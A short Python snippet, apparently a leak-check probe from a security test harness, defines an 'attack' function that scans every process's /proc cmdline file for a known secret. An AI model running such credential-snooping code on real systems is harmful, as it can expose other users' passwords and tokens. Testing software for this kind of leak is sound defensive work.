import glob


def attack(ground):
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path) as file:
                if ground["secret"] in file.read():
                    return ground["secret"]
        except OSError:
            continue
    return None
